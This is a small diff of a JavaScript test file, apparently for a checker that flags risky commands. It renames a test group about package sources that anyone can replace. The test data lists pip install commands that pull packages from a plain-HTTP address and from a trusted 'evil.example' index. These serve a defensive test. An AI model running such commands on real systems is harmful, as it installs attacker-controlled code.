@@ -39,7 +39,7 @@ describe('access that is given away', () => {
   });
 });
 
-describe('packages from where anybody can put another one', () => {
+describe('packages from where anyone can replace them', () => {
   it.each([
     'pip install --index-url http://198.51.100.3/simple x',
     'python -m pip install --trusted-host evil.example -i https://evil.example/simple x',
